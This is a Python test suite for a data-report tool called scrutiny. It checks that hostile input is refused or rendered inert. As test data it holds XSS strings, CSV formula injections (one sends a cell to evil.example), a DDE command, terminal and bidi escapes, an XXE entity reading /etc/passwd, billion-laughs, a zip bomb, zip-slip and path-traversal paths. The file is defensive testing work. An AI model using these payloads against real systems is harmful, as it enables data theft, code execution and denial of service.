#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The libscrutiny authors
# SPDX-License-Identifier: LGPL-2.1-or-later
"""What nobody should hand in: one clear line that refuses it, or output in which nothing can act.

usage: test-hostile.py PROGRAM
"""

import csv
import html.parser
import io
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import unittest
import zipfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "bindings"))

import tap

PROGRAM = pathlib.Path(sys.argv[1])
DONE, REFUSED = 0, 1
LONGEST = 60  # seconds for any one file: a bound, not a measure
FORMS = ("text", "md", "html", "json", "csv")
MONTHS = [f"{2023 + i // 12}-{i % 12 + 1:02}" for i in range(24)]
PLAIN = "month,value\n" + "".join(f"{month},{i % 7 + 1}\n" for i, month in enumerate(MONTHS))
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
ACTS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
NAMES = {
    "an HTML tag": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an HTML attribute": "\"' onload=alert(1) x=\"",
    "a formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "a formula by its sign": "+cmd|' /C calc'!A0",
    "a formula after a blank": "\t=1+1",
    "a terminal escape": "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "an escape of one byte": "\x9b31mred",
    "a bidi control": "\u202egnp.exe\u2066",
    "Markdown": "**bold** [x](javascript:alert(1)) ![i](http://evil.example/x.png) `c` | # h <b> ~~s~~ _e_",
    "DOT": "a\" ]; node [URL=\"http://evil.example\" image=\"/etc/passwd\"]; b -> c",
    "a line break": "one\r\n# two\n- three",
}


def run(*words):
    ran = subprocess.run([PROGRAM, *map(str, words)], capture_output=True, timeout=LONGEST,
                         stdin=subprocess.DEVNULL)
    return ran.returncode, ran.stdout.decode(), ran.stderr.decode()


def cell(place, text):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(path, sheet):
    """A workbook of one sheet, whose part is the pieces given."""
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>',
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
                           '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
                                      f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, '<?xml version="1.0"?>' + text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for piece in sheet:
                part.write(piece.encode())


def rows_of_sheet(name):
    yield "<row>" + cell("A1", "month") + cell("B1", name) + "</row>"
    for i, month in enumerate(MONTHS):
        yield f'<row>{cell(f"A{i + 2}", month)}<c r="B{i + 2}"><v>{i % 7}</v></c></row>'


class Tags(html.parser.HTMLParser):
    """The elements and attributes a page has."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attributes}


class Case(unittest.TestCase):
    def setUp(self):
        held = tempfile.TemporaryDirectory()
        self.addCleanup(held.cleanup)
        self.folder = pathlib.Path(held.name)

    def write(self, name, content):
        path = self.folder / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, newline="")
        return path

    def refused(self, path, *needed):
        for command in ("report", "because"):
            code, said, complaint = run(command, path)
            self.assertEqual((code, said), (REFUSED, ""), complaint)
            self.assertEqual(complaint.count("\n"), 1, complaint)
            self.assertRegex(complaint, r"^scrutiny: \S")
            self.assertLess(len(complaint), 1500)
            self.assertIsNone(ACTS.search(complaint.rstrip("\n")), complaint)
            for word in needed:
                self.assertIn(word, complaint)

    def refused_workbook(self, path, *needed):
        if "xlsx" in os.environ.get("SCRUTINY_BUILT_WITH", "xlsx"):
            self.refused(path, path.name, *needed)
        else:
            self.refused(path, path.name, "built without XLSX")

    def done(self, *words):
        code, said, complaint = run(*words)
        self.assertEqual((code, complaint), (DONE, ""))
        return said


class Refused(Case):
    def test_text_that_is_no_table(self):
        prose = "The council met.\nIt noted the report.\n" * 20
        self.refused(self.write("prose.csv", prose), "prose.csv, row 1")
        self.assertIn("prose.txt, row 1", run("report", self.write("prose.txt", prose))[2])
        self.assertIn("prose.txt, line 2, column 1", run("because", self.folder / "prose.txt")[2])

    def test_nothing(self):
        self.refused(self.write("empty.csv", ""), "empty.csv: there is nothing in it")
        self.refused(self.write("blank.csv", "\n \n,,\n"), "blank.csv: there is nothing in it")

    def test_a_folder(self):
        (self.folder / "papers").mkdir()
        self.refused(self.folder / "papers", "papers", "datapackage.json")

    def test_no_file(self):
        self.refused(self.folder / "gone.csv", "gone.csv")

    def test_a_device(self):
        self.refused("/dev/null", "null")

    def test_a_program(self):
        self.refused(self.write("program.csv", b"\x7fELF\2\1\1" + bytes(range(256)) * 64), "program.csv", "not text")

    def test_a_sparse_file(self):
        for name, head in (("zeros.csv", b""), ("zeros-after.csv", PLAIN.encode())):
            path = self.write(name, head)
            os.truncate(path, 2 << 30)
            self.refused(path, name, "row ", "not text")

    def test_a_hundred_thousand_columns(self):
        line = ",1" * 100_000 + "\n"
        header = "month" + "".join(f",c{i}" for i in range(100_000)) + "\n"
        self.refused(self.write("columns.csv", header + "".join(month + line for month in MONTHS[:6])),
                     "columns.csv, row 1", "16,384 columns")

    def test_a_field_of_fifty_megabytes(self):
        self.refused(self.write("field.csv", PLAIN + "2025-01,\"" + "x" * 50_000_000 + "\"\n"),
                     "field.csv, row 26, column 2")

    def test_a_zip_bomb(self):
        path = self.folder / "bomb.xlsx"
        row = "<row>" + '<c t="inlineStr"><is><t>' + "A" * 1000 + "</t></is></c>" + "</row>"

        def pieces():
            yield f'<worksheet xmlns="{SHEET}"><sheetData>'
            for _ in range(600):
                yield row * 1000
            yield "</sheetData></worksheet>"

        workbook(path, pieces())
        self.assertLess(path.stat().st_size, 10 << 20)
        self.refused_workbook(path, "larger than")

    def test_a_document_type(self):
        for name, entity, used in (
                ("outside.xlsx", '<!ENTITY e SYSTEM "file:///etc/passwd">', "&amp;e;"),
                ("laughs.xlsx", '<!ENTITY a "ha"><!ENTITY e "&a;&a;&a;&a;&a;&a;&a;&a;">', "&amp;e;")):
            path = self.folder / name
            workbook(path, [f"<!DOCTYPE x [{entity}]>", f'<worksheet xmlns="{SHEET}"><sheetData>',
                            *rows_of_sheet(used.replace("&amp;", "&")), "</sheetData></worksheet>"])
            self.refused_workbook(path, "sheet1.xml", "document type")

    def test_an_archive_that_is_no_workbook(self):
        with zipfile.ZipFile(self.folder / "papers.xlsx", "w") as archive:
            archive.writestr("../../evil.csv", PLAIN)
        self.refused_workbook(self.folder / "papers.xlsx", "not a workbook")

    def test_numbers_that_are_none(self):
        self.refused(self.write("huge.csv", "month,value\n" + "".join(f"{month},1e400\n" for month in MONTHS)),
                     "huge.csv, row 1", "no column of figures")


class Resources(Case):
    def dossier(self, path):
        package = {"name": "pack", "resources": [{"name": "figures", "path": path, "schema": {
            "fields": [{"name": "month", "type": "yearmonth"}, {"name": "value", "type": "number"}]}}]}
        self.write("datapackage.json", json.dumps(package))
        self.write("figures.csv", PLAIN)
        return self.folder

    def test_in_the_folder(self):
        self.done("report", self.dossier("figures.csv"))

    def test_elsewhere(self):
        for path in ("../../etc/passwd", "/etc/passwd", "a/../../figures.csv", "..\\..\\etc\\passwd", "C:\\figures.csv",
                     "//evil.example/share/figures.csv"):
            with self.subTest(path):
                self.refused(self.dossier(path), "datapackage.json")

    def test_on_the_net(self):
        for path in ("http://evil.example/figures.csv", "https://evil.example/figures.csv", "file:///etc/passwd",
                     "data:text/csv,a", "smb://evil.example/figures.csv"):
            with self.subTest(path):
                self.refused(self.dossier(path), "datapackage.json", "nothing is fetched")

    def test_a_link_out_of_the_folder(self):
        with tempfile.TemporaryDirectory() as outside:
            elsewhere = pathlib.Path(outside) / "figures.csv"
            elsewhere.write_text(PLAIN)
            (self.folder / "link.csv").symlink_to(elsewhere)
            (self.folder / "papers").symlink_to(outside)
            self.refused(self.dossier("link.csv"), "link.csv", "out of the folder")
            self.refused(self.dossier("papers/figures.csv"), "papers", "out of the folder")

    def test_a_pipe(self):
        os.mkfifo(self.folder / "pipe.csv")
        self.refused(self.dossier("pipe.csv"), "pipe.csv")


class Read(Case):
    """What is certain is used, what is not is named by row."""

    def notes(self, name, text):
        return self.done("report", self.write(name, text)).split("How the figures were read")[1].replace("\n    ", " ")

    def test_numbers_beyond_numbers(self):
        odd = dict(zip(MONTHS, ("inf", "1e400", "-Infinity", "0x10")))
        notes = self.notes("odd.csv", "month,value\n" +
                           "".join(f"{month},{odd.get(month, i)}\n" for i, month in enumerate(MONTHS)))
        self.assertIn("Rows 2, 3, 4 and 5", notes)
        shown = json.loads(self.done("report", self.folder / "odd.csv", "--format", "json"))
        self.assertNotRegex(json.dumps(shown), r"\b(NaN|Infinity)\b")

    def test_a_period_twice(self):
        self.assertIn("rows 2 and 26", self.notes("twice.csv", PLAIN + MONTHS[0] + ",99\n"))

    def test_a_numerator_above_its_denominator(self):
        rows = "".join(f"{month},{'104' if i == 3 else '80'},{'26' if i == 3 else '20'},25\n"
                       for i, month in enumerate(MONTHS))
        notes = self.notes("over.csv", "month,value,numerator,denominator\n" + rows)
        self.assertIn("Row 5: the numerator is above the denominator", notes)


class Names(Case):
    def named(self, name):
        path = self.folder / "named.csv"
        with open(path, "w", newline="") as file:
            rows = csv.writer(file)
            rows.writerow(["indicator", "month", "value", "status", "note"])
            for i, month in enumerate(MONTHS):
                rows.writerow([name, month, i % 7, name, name])
                rows.writerow(["Repairs", month, i % 5, "Green", ""])
        return path

    def everything(self, path):
        """What every command says of the file, in every form."""
        for form in FORMS:
            yield form, self.done("report", path, "--format", form)
        report = json.loads(self.done("report", path, "--format", "json"))
        first = report["indicators"][0]["id"]
        for form in ("text", "json", "svg", "csv"):
            yield form, self.done("chart", path, "--indicator", first, "--format", form)
        for form in ("text", "json", "csv"):
            yield form, self.done("shifts", path, "--indicator", first, "--format", form)
            yield form, self.done("colours", path, "--indicator", first, "--bands", "A >= 5, B", "--format", form)
        for form in ("text", "json"):
            yield form, self.done("because", path, "--format", form)

    def check_page(self, said):
        page = Tags(said)
        self.assertFalse(page.tags & {"script", "img", "iframe", "object", "link", "a", "form"}, page.tags)
        self.assertFalse({name for name in page.attributes if name.startswith("on")}, page.attributes)
        self.assertFalse(page.attributes & {"src", "href", "xlink:href", "onload"}, page.attributes)

    def check_markdown(self, said):
        for link in re.finditer(r"(?<!\\)\]\(", said):
            self.fail(said[link.start() - 40:link.end() + 40])
        self.assertNotRegex(said, r"(?<!\\)<[a-zA-Z/!]")
        self.assertNotRegex(said, r"(?m)^(# two|- three)")

    def check_cells(self, said):
        for row in csv.reader(io.StringIO(said)):
            for text in row:
                if re.match(r"[=+@\t\r]", text) or re.match(r"-(?![\d.])", text):
                    self.fail(text)

    def check(self, form, said):
        self.assertIsNone(ACTS.search(said.replace("\r\n", "\n")))
        if form in ("html", "svg"):
            self.check_page(said)
        elif form == "md":
            self.check_markdown(said)
        elif form == "csv":
            self.check_cells(said)
        elif form == "json":
            json.loads(said)

    def test_cannot_act(self):
        for label, name in NAMES.items():
            path = self.named(name)
            for form, said in self.everything(path):
                with self.subTest(label, form=form):
                    self.check(form, said)

    def test_are_not_lost(self):
        for label in ("an HTML tag", "a formula", "Markdown", "DOT"):
            report = json.loads(self.done("report", self.named(NAMES[label]), "--format", "json"))
            self.assertEqual(report["indicators"][0]["title"], NAMES[label])

    def test_of_columns_sheets_and_files(self):
        name = "\x1b[31m\u202e<b>=1"
        path = self.write("a\x1b[31m\u202e<b>.csv", f"month,{name}\n" + PLAIN.split("\n", 1)[1])
        for form in FORMS:
            self.check(form, self.done("report", path, "--format", form))
        for words in (("--column", "value=there\x1bis\u202enone"), ("--layout", "\x1b[31m")):
            code, said, complaint = run("report", path, *words)
            self.assertEqual((code, said, complaint.count("\n")), (REFUSED, "", 1))
            self.assertIsNone(ACTS.search(complaint.rstrip("\n")), complaint)


if __name__ == "__main__":
    tap.main()
